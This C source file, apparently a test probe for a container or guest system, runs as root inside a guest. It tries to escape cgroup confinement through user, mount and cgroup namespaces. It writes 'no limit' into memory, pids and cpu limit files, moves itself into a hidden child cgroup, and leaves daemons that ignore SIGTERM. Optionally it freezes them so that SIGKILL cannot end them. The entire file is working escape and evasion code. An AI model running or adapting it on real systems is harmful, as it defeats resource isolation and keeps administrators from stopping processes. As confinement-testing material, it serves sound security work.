/* Run as root inside a guest (refuses to run elsewhere). A guest's root tries to loosen its own confinement
 * through a user namespace (uid_map "0 0 1": still uid 0, the owner of its cgroup files), a mount and a cgroup
 * namespace, and cgroupfs mounted there (rooted at the guest's own cgroup):
 *   lift  - write "no limit" into memory, pids and cpu limit files (cgroup v1 hierarchies, and cgroup2);
 *           prints "STEP ok" or "STEP ERRNO-TEXT" for each step.
 *   hide  - make a child cgroup "esc" in every hierarchy it can mount, move itself there, and leave a daemon
 *           and two children that ignore SIGTERM; prints "hidden N" (hierarchies moved into), then exits.
 *   hide-frozen - the same, then the daemon freezes "esc" (and so itself) in the v1 freezer hierarchy: on v1 a
 *           frozen task does not die of SIGKILL until it is thawed. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *V1[] = {"memory", "pids", "cpu", "cpuacct", "cpuset", "freezer", "blkio", "devices"};
#define NV1 (sizeof(V1) / sizeof(V1[0]))

static int report(const char *step, int rc) {
    printf("%s %s\n", step, rc == 0 ? "ok" : strerror(errno));
    fflush(stdout);
    return rc;
}

static int put(const char *path, const char *value) {
    int fd = open(path, O_WRONLY);
    if (fd < 0) return -1;
    ssize_t n = write(fd, value, strlen(value));
    int saved = errno;
    close(fd);
    errno = saved;
    return n < 0 ? -1 : 0;
}

static void copy(const char *from, const char *to) {
    char buf[256] = {0};
    int fd = open(from, O_RDONLY);
    if (fd < 0) return;
    ssize_t n = read(fd, buf, sizeof(buf) - 1);
    close(fd);
    if (n > 0) put(to, buf);
}

/* user namespace (0 -> 0), then mount + cgroup namespaces; each step reported */
static void enter_namespaces(void) {
    if (report("unshare_user", unshare(CLONE_NEWUSER)) == 0) {
        report("setgroups", put("/proc/self/setgroups", "deny"));
        report("uid_map", put("/proc/self/uid_map", "0 0 1"));
        report("gid_map", put("/proc/self/gid_map", "0 0 1"));
    }
    report("unshare_mnt_cgroup", unshare(CLONE_NEWNS | CLONE_NEWCGROUP));
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
}

static int mount_at(const char *name, char *dir, size_t size) {
    char step[64];
    snprintf(dir, size, "/tmp/cg-%s", name);
    mkdir(dir, 0755);
    snprintf(step, sizeof(step), "mount_%s", name);
    if (strcmp(name, "unified") == 0) return report(step, mount("cgroup2", dir, "cgroup2", 0, NULL));
    return report(step, mount("cgroup", dir, "cgroup", 0, name));
}

static void lift(void) {
    char dir[128], path[256];
    static const struct { const char *ctrl, *file, *value; } v1[] = {
        {"memory", "memory.limit_in_bytes", "-1"}, {"memory", "memory.memsw.limit_in_bytes", "-1"},
        {"pids", "pids.max", "max"}, {"cpu", "cpu.cfs_quota_us", "-1"}};
    static const char *v2[][2] = {{"memory.max", "max"}, {"pids.max", "max"}, {"cpu.max", "max"}};
    for (size_t i = 0; i < sizeof(v1) / sizeof(v1[0]); i++) {
        if (i == 0 || strcmp(v1[i].ctrl, v1[i - 1].ctrl) != 0)
            if (mount_at(v1[i].ctrl, dir, sizeof(dir)) != 0) continue;
        snprintf(path, sizeof(path), "/tmp/cg-%s/%s", v1[i].ctrl, v1[i].file);
        report(v1[i].file, put(path, v1[i].value));
    }
    if (mount_at("unified", dir, sizeof(dir)) == 0) {
        for (size_t i = 0; i < sizeof(v2) / sizeof(v2[0]); i++) {
            char step[64];
            snprintf(path, sizeof(path), "%s/%s", dir, v2[i][0]);
            snprintf(step, sizeof(step), "v2_%s", v2[i][0]);
            if (access(path, F_OK) == 0) report(step, put(path, v2[i][1]));
        }
    }
}

static int hide(void) {
    char dir[128], path[256], parent[256];
    int moved = 0;
    for (size_t i = 0; i <= NV1; i++) {
        const char *name = i < NV1 ? V1[i] : "unified";
        if (mount_at(name, dir, sizeof(dir)) != 0) continue;
        snprintf(path, sizeof(path), "%s/esc", dir);
        mkdir(path, 0755);
        if (strcmp(name, "cpuset") == 0) {
            const char *keys[] = {"cpuset.cpus", "cpuset.mems"};
            for (int k = 0; k < 2; k++) {
                snprintf(parent, sizeof(parent), "%s/%s", dir, keys[k]);
                snprintf(path, sizeof(path), "%s/esc/%s", dir, keys[k]);
                copy(parent, path);
            }
        }
        snprintf(path, sizeof(path), "%s/esc/cgroup.procs", dir);
        char step[64];
        snprintf(step, sizeof(step), "move_%s", name);
        if (report(step, put(path, "0")) == 0) moved++;
    }
    return moved;
}

int main(int argc, char **argv) {
    const char *where = getenv("container");
    if (!where || strcmp(where, "vserver") != 0 || argc < 2) {
        fprintf(stderr, "cgroup_escape: lift|hide, only inside a guest (container=vserver)\n");
        return 2;
    }
    enter_namespaces();
    if (strcmp(argv[1], "lift") == 0) {
        lift();
        return 0;
    }
    int ready[2];
    if (pipe(ready) != 0) return 3;
    pid_t daemon = fork();
    if (daemon == 0) {
        close(ready[0]);
        setsid();
        signal(SIGTERM, SIG_IGN);
        signal(SIGHUP, SIG_IGN);
        int moved = hide();
        printf("hidden %d\n", moved);
        fflush(stdout);
        int fd = open("/dev/null", O_RDWR);
        dup2(fd, 0); dup2(fd, 1); dup2(fd, 2);
        for (int i = 0; i < 2; i++)
            if (fork() == 0) { close(ready[1]); for (;;) pause(); }
        close(ready[1]);
        if (strcmp(argv[1], "hide-frozen") == 0) {
            usleep(100000);
            put("/tmp/cg-freezer/esc/freezer.state", "FROZEN");
        }
        for (;;) pause();
    }
    close(ready[1]);
    char c;
    while (read(ready[0], &c, 1) > 0) {}
    return 0;
}
